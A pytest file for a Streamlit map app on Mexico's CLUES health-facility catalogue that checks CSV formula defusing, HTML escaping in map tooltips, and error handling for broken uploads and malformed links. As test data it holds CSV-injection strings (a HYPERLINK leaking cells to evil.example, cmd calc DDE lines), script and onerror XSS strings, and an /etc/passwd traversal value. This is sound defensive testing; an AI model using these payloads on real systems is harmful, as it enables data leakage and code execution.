"""Bad input, one test each: what a careless or hostile file or link does to the app.

Unit level (fast): formula cells are defused in every CSV export, names with markup are escaped in
the facility map, every broken file gives its coded error.  Browser level (real app in Chromium,
offline): each broken upload shows a clear message on screen, the same session then loads a good
catalogue, markup in a unit's name shows as text in its tooltip, absurd links show notices.
The bad files are generated here from scripts/make_synthetic_clues.py (official layout).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from functools import lru_cache

import pytest

import make_synthetic_clues
from coverage import clues, exports, facility_maps, facility_points, snapshot, tables
from helpers import ROOT
from helpers.browser import MAP_FRAME, assert_no_dialog, wait_for_states, wait_until_idle

ARTIFACTS = ROOT / "test-artifacts"
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalle")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
XSS = ['<script>window.__pwned="script"</script>Unidad A', '<img src=x onerror="window.__pwned=\'img\'">Unidad B']
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
UPLOAD_LIMIT_MB = 1


@lru_cache(maxsize=1)
def synthetic():
    """A small catalogue in the official layout (67 columns); Hidalgo has IMSS-BIENESTAR units."""
    return make_synthetic_clues.make(public=600, private=60, seed=7)


def csv_of(frame) -> bytes:
    return frame.to_csv(index=False).encode("utf-8")


def xlsx_of(frame) -> bytes:
    buffer = io.BytesIO()
    frame.to_excel(buffer, index=False, sheet_name="CLUES_202501")
    return buffer.getvalue()


def hostile(names: list[str], state: int = 13):
    """The synthetic catalogue with the first operating units of ``state`` renamed to ``names``,
    placed a few hundred metres apart in Pachuca so they are single points at street zoom."""
    frame = synthetic().copy()
    rows = frame.index[(frame["CLAVE DE LA ENTIDAD"] == state) & (frame["ESTATUS DE OPERACION"] == "EN OPERACION")
                       & (frame["CLAVE DE LA INSTITUCION"] == "IMB")][: len(names)]
    for i, (row, name) in enumerate(zip(rows, names)):
        frame.loc[row, "NOMBRE DE LA UNIDAD"] = name
        frame.loc[row, "LATITUD"], frame.loc[row, "LONGITUD"] = 20.1011 + 0.004 * i, -98.7591 + 0.004 * i
    frame.loc[rows[0], "MUNICIPIO"] = INJECTIONS[1]
    return frame, frame.loc[rows, "CLUES"].tolist()


def bad_files() -> dict[str, tuple[str, bytes, str]]:
    """name → (file name, bytes, the error code the reader must report)."""
    good_xlsx = xlsx_of(synthetic())
    no_coords = synthetic().copy()
    no_coords["LATITUD"], no_coords["LONGITUD"] = None, None
    return {
        "empty": ("ESTABLECIMIENTO_SALUD_202501.csv", b"", "empty"),
        "truncated_xlsx": ("ESTABLECIMIENTO_SALUD_202501.xlsx", good_xlsx[: len(good_xlsx) // 2], "unreadable"),
        "utf16_csv": ("CLUES_2025.csv", synthetic().to_csv(index=False).encode("utf-16"), "binary"),
        "png_renamed_xlsx": ("ESTABLECIMIENTO_SALUD_202501.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
                             "unreadable"),
        "docx_renamed_xlsx": ("ESTABLECIMIENTO_SALUD_202501.xlsx", _docx(), "unreadable"),
        "no_coordinates": ("CLUES_2025.csv", csv_of(no_coords), None),  # loads; every record is reported
    }


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------- unit level

def cells(payload: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig"))) for cell in row]


def live_formulas(payload: bytes) -> list[str]:
    """Cells a spreadsheet would evaluate: starting with = + - @ TAB CR, unless a plain number."""
    def is_number(text: str) -> bool:
        try:
            float(text)
            return True
        except ValueError:
            return False
    return [c for c in cells(payload) if c.startswith(FORMULA_START) and not is_number(c)]


def test_formula_cells_never_reach_a_csv_export_live():
    frame, codes = hostile(INJECTIONS)
    catalogue = clues.from_bytes([("ESTABLECIMIENTO_SALUD_202501.csv", csv_of(frame))])
    data = tables.load()
    view = snapshot.View("13", dt.date(2024, 6, 30), lang="es")
    snap = snapshot.Snapshot(data, view, catalogue)
    exports_to_check = {
        "state facilities csv": snap.facilities_csv,
        "issues csv": exports.csv_bytes(catalogue.issues),
        "metrics csv": exports.csv_bytes(clues.state_metrics(catalogue, data.census)),
        "state csv": snap.csv,
    }
    with zipfile.ZipFile(io.BytesIO(snap.zip)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                exports_to_check[f"zip:{name}"] = archive.read(name)
    facilities = cells(snap.facilities_csv)
    for text in INJECTIONS:  # the text is kept, readable, but as text: a leading apostrophe
        assert "'" + text.strip() in facilities or "'" + text in facilities, text
    for name, payload in exports_to_check.items():
        assert payload is not None and live_formulas(payload) == [], name


def test_markup_in_names_is_escaped_in_the_facility_map_script():
    frame, _ = hostile(XSS)
    catalogue = clues.from_bytes([("ESTABLECIMIENTO_SALUD_202501.csv", csv_of(frame))])
    fmap = facility_maps.base_map("es", None, None)
    for group in facility_points.facility_groups(clues.points(catalogue, cve_ent="13"), "es"):
        group.add_to(fmap)
    page = fmap.get_root().render()
    assert "&lt;script&gt;window.__pwned" in page and "&lt;img src=x onerror=" in page
    assert "<script>window.__pwned" not in page and "<img src=x" not in page


@pytest.mark.parametrize("case", list(bad_files()))
def test_each_bad_file_gives_its_coded_error(case):
    name, payload, code = bad_files()[case]
    if code is None:
        catalogue = clues.from_bytes([(name, payload)])
        assert catalogue.issue_counts["no_coordinates"] == len(catalogue.table) > 0
        assert clues.points(catalogue).empty
        return
    with pytest.raises(clues.CatalogueError) as info:
        clues.from_bytes([(name, payload)])
    assert info.value.code == code and name in str(info.value)


def test_a_latin1_csv_is_read_with_its_accents():
    payload = synthetic().to_csv(index=False).encode("latin-1")
    catalogue = clues.from_bytes([("CLUES_2025.csv", payload)])
    assert catalogue.sources[0].detail in ("cp1252", "latin-1")
    assert catalogue.table["name"].str.contains("SINTÉTICA").all()


# ------------------------------------------------------------------------------------------ browser level

@pytest.fixture(scope="module")
def server_env():
    return {"COVERAGE_CLUES": "", "STREAMLIT_SERVER_MAX_UPLOAD_SIZE": str(UPLOAD_LIMIT_MB)}


@pytest.fixture
def page_options():
    return {"viewport": {"width": 1400, "height": 1100}, "locale": "es-MX"}


def open_uploader(page, url: str) -> None:
    """Open the page and its uploader once the first run (the embedded national network) is over, so
    the file is not handed to an uploader that the run's end re-renders."""
    page.goto(url)
    page.get_by_text("Catálogo CLUES: cargar o cambiar").first.wait_for(timeout=30_000)
    wait_until_idle(page, timeout=60_000)
    assert_no_dialog(page)
    page.get_by_text("Catálogo CLUES: cargar o cambiar").first.click()
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').wait_for(state="attached", timeout=30_000)


def upload(page, name: str, payload: bytes) -> None:
    page.locator('[data-testid="stFileUploaderDropzoneInput"]').set_input_files(
        files=[{"name": name, "mimeType": "application/octet-stream", "buffer": payload}])


def assert_no_traceback(page) -> None:
    assert page.locator('[data-testid="stException"]').count() == 0
    assert page.get_by_text("Traceback").count() == 0


def loads_a_good_catalogue_afterwards(page) -> None:
    """The app keeps working: remove the bad file, upload a good one, the map draws its points."""
    for button in page.locator('[data-testid="stFileChipDeleteBtn"] button').all()[::-1]:
        button.click()
        wait_until_idle(page, timeout=60_000)  # each removal reruns; a file handed over meanwhile is lost
    upload(page, "ESTABLECIMIENTO_SALUD_202501.csv", csv_of(synthetic()))
    page.get_by_text(re.compile(r"\d+ de \d+ unidades en operación en el mapa")).first.wait_for(timeout=60_000)
    page.frame_locator(MAP_FRAME).first.locator(".imss-cluster").first.wait_for(timeout=30_000)
    assert_no_traceback(page)


MESSAGES = {  # what the reader sees (Spanish, the default)
    "empty": "está vacío",
    "truncated_xlsx": "no se puede leer como xlsx",
    "utf16_csv": "no es un CSV, xlsx ni parquet",
    "png_renamed_xlsx": "no se puede leer como xlsx",
    "docx_renamed_xlsx": "no se puede leer como xlsx",
    "no_coordinates": "Sin coordenadas",
}


@pytest.mark.browser
@pytest.mark.parametrize("case", list(MESSAGES))
def test_a_bad_upload_gets_a_clear_message_and_the_app_keeps_working(server, page, case):
    ARTIFACTS.mkdir(exist_ok=True)
    name, payload, _ = bad_files()[case]
    open_uploader(page, f"{server.url}/unidades?lang=es")
    upload(page, name, payload)
    page.get_by_text(MESSAGES[case]).first.wait_for(timeout=60_000)
    if case == "no_coordinates":  # loaded, nothing on the map, every record listed as a problem
        page.get_by_text(re.compile(r"^0 de [1-9][\d,]* unidades en operación en el mapa")).first.wait_for()
        page.get_by_text("registros tienen algún problema").first.wait_for()
    else:
        page.get_by_text(name).first.wait_for()  # the message names the file
    assert_no_traceback(page)
    page.screenshot(path=ARTIFACTS / f"bad-upload-{case}.png", full_page=False)
    loads_a_good_catalogue_afterwards(page)


@pytest.mark.browser
def test_an_upload_over_the_size_limit_is_refused_with_the_limit_stated(server, page):
    open_uploader(page, f"{server.url}/unidades?lang=es")
    page.get_by_text(f"hasta {UPLOAD_LIMIT_MB} MB por archivo").first.wait_for()  # the limit is stated up front
    big = csv_of(synthetic()) * (UPLOAD_LIMIT_MB * 1024 * 1024 // len(csv_of(synthetic())) + 2)
    upload(page, "ESTABLECIMIENTO_SALUD_202501.csv", big)
    page.get_by_text(re.compile(r"must be .*MB or smaller", re.IGNORECASE)).first.wait_for(
        timeout=30_000)
    # nothing half-loaded: the embedded national network stays on screen, and the page says so
    page.get_by_text("En pantalla: la red nacional incorporada").first.wait_for()
    assert_no_traceback(page)
    page.screenshot(path=ARTIFACTS / "bad-upload-too-big.png", full_page=False)
    loads_a_good_catalogue_afterwards(page)


# Zoom to the hostile units and open every unit's tooltip the way a hover does (the layer's
# mouseover handler binds it, and Leaflet writes tooltip content as HTML: this is where unescaped
# markup would run). Polled as one predicate because the map iframe is replaced while the upload's
# reruns finish (the embedded network is on screen first): each poll starts again from whichever
# iframe is there, and only the uploaded units' names make it true.
OPEN_HOSTILE_TOOLTIPS = """needles => { const f = document.querySelector('%s'); const w = f && f.contentWindow;
  if (!w || !w.map) return false;
  f.scrollIntoView();
  const groups = []; w.map.eachLayer(l => { if (l._imssGroup) groups.push(l); });
  if (!groups.length) return false;
  if (w.__zoomedToHostile !== w.map) { w.map.setView([20.1031, -98.7571], 14, {animate: false});
    w.__zoomedToHostile = w.map; return false; }
  groups.forEach(l => l.drawn().forEach(m => { if (m._i !== undefined && w.map.getBounds().contains(m.getLatLng()))
    m.fire('mouseover', {latlng: m.getLatLng()}, true); }));
  const texts = Array.from(w.document.querySelectorAll('.leaflet-tooltip'), t => t.textContent);
  return needles.every(n => texts.some(t => t.includes(n))); }""" % MAP_FRAME


@pytest.mark.browser
def test_markup_in_a_unit_name_shows_as_text_in_its_tooltip(server, page):
    frame_data, _ = hostile(XSS)
    open_uploader(page, f"{server.url}/unidades?lang=es")
    upload(page, "ESTABLECIMIENTO_SALUD_202501.csv", csv_of(frame_data))
    page.get_by_text("En pantalla: su catálogo CLUES").first.wait_for(timeout=60_000)
    expected = ['<script>window.__pwned="script"</script>Unidad A', "<img src=x onerror="]
    page.wait_for_function(OPEN_HOSTILE_TOOLTIPS, arg=expected, polling=300, timeout=60_000)
    map_frame = page.frame_locator(MAP_FRAME).first
    for text in expected:
        tooltip = map_frame.locator(".leaflet-tooltip", has_text=text).first
        assert text in tooltip.inner_text(timeout=10_000)
        assert tooltip.locator("img, script").count() == 0
    page.screenshot(path=ARTIFACTS / "bad-markup-tooltip.png", full_page=False)
    pwned = page.evaluate("() => [window.__pwned, document.querySelector('%s').contentWindow.__pwned]" % MAP_FRAME)
    assert pwned == [None, None], pwned
    assert_no_traceback(page)


ABSURD_URLS = {
    "everything wrong": ("/?lang=%3Cscript%3Ealert(1)%3C/script%3E&fecha=2023-13-45&meta=..%2F..%2Fetc%2Fpasswd"
                         "&base=x&color=" + "Z" * 500, ["no existe; se usa español", "no es válida",
                                                       "La meta del enlace", "La base del enlace",
                                                       "La coloración del enlace"]),
    "future and ancient dates": ("/?fecha=2999-01-01", ["no es válida"]),
    "empty values": ("/?fecha=&lang=&meta=&base=&color=", []),
    "state page junk": ("/estado?estado=%3Cimg%20src=x%20onerror=alert(1)%3E&grupos=,,,&tipos=" + "A" * 4000,
                        ["El estado del enlace", "Vista nacional"]),
    "repeated and unknown params": ("/estado?estado=13&estado=99&foo=bar&lang=en&lang=es", []),
    "huge number": ("/?fecha=99999999999999999999", ["no es válida"]),
}


@pytest.mark.browser
@pytest.mark.parametrize("case", list(ABSURD_URLS))
def test_an_absurd_link_shows_notices_and_a_working_page(server, page, case):
    path, notices = ABSURD_URLS[case]
    page.goto(server.url + path)
    page.locator('[data-testid="stSidebar"]').wait_for(timeout=30_000)
    if path.startswith("/?") or path == "/":
        wait_for_states(page)
    else:
        page.locator("h1").first.wait_for(timeout=30_000)
    assert_no_dialog(page)
    for notice in notices:
        page.get_by_text(notice).first.wait_for(timeout=15_000)
    page.wait_for_timeout(300)
    assert_no_traceback(page)
    assert page.evaluate("() => window.__pwned") is None
    page.get_by_role("slider").first.wait_for()  # the controls are there and usable
